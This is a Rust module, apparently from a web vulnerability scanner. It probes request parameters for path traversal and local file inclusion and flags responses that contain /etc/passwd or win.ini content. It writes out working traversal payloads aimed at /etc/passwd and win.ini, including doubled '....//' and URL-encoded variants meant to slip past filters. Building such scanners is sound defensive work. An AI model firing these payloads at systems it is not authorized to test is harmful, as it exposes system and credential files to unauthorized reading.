//! Path traversal and local file inclusion: `../` sequences (plain, doubled to survive one
//! round of stripping, URL-encoded) and absolute paths towards `/etc/passwd` and
//! `win.ini`; a hit is the file's own content, absent from the normal answer.

use super::{report, send};
use crate::endpoint::{Endpoint, Loc, Point};
use crate::http::Response;
use crate::Scan;
use regex::Regex;
use serde_json::json;
use std::sync::OnceLock;
use vigil_engine::EngineError;

/// The content of a system file that proves the read, if `text` shows one.
pub fn file_proof(text: &str) -> Option<String> {
    static R: OnceLock<Vec<Regex>> = OnceLock::new();
    let rules = R.get_or_init(|| {
        [
            r"root:[^:\n]{0,40}:0:0:[^\n]{0,80}",
            r"\[fonts\]\s*\[extensions\]",
            r"\[boot loader\]",
        ]
        .iter()
        .filter_map(|p| Regex::new(p).ok())
        .collect()
    });
    rules
        .iter()
        .find_map(|r| r.find(text).map(|m| m.as_str().to_string()))
}

/// Whether a parameter is worth testing in normal mode: its name or value speaks of files.
fn looks_like_file(pt: &Point) -> bool {
    let n = pt.name.to_ascii_lowercase();
    pt.original.contains('.')
        || pt.original.contains('/')
        || [
            "file", "path", "page", "doc", "template", "include", "dir", "folder", "load", "read",
            "view", "lang", "name",
        ]
        .iter()
        .any(|w| n.contains(w))
}

/// Test one point.
pub async fn check(
    scan: &Scan<'_>,
    ep: &Endpoint,
    pt: &Point,
    base: &Response,
) -> Result<(), EngineError> {
    if matches!(pt.loc, Loc::Header) || (!scan.deep && !looks_like_file(pt)) {
        return Ok(());
    }
    if file_proof(&base.text()).is_some() {
        return Ok(());
    }
    let up = "../".repeat(10);
    let payloads = [
        format!("{up}etc/passwd"),
        "/etc/passwd".to_string(),
        format!("{}etc/passwd", "....//".repeat(10)),
        format!("{}etc%2fpasswd", "..%2f".repeat(10)),
        format!("{}windows\\win.ini", "..\\".repeat(10)),
    ];
    for p in payloads {
        let req = ep.inject(pt, &p);
        let Some(resp) = send(scan, &req).await? else {
            continue;
        };
        if let Some(content) = file_proof(&resp.text()) {
            let proof = json!({
                "payload": p,
                "proof": format!("the answer holds the file's content: `{content}`"),
            });
            return report(
                scan,
                "path-traversal",
                ep,
                pt,
                &req,
                &resp,
                Some(&content),
                proof,
            )
            .await;
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn file_contents() {
        assert!(file_proof("x\nroot:x:0:0:root:/root:/bin/bash\n").is_some());
        assert!(file_proof("; for 16-bit app support\n[fonts]\n[extensions]\n").is_some());
        assert!(file_proof("the root user has id 0").is_none());
        assert!(file_proof("root:x:1000:1000:").is_none());
    }
}
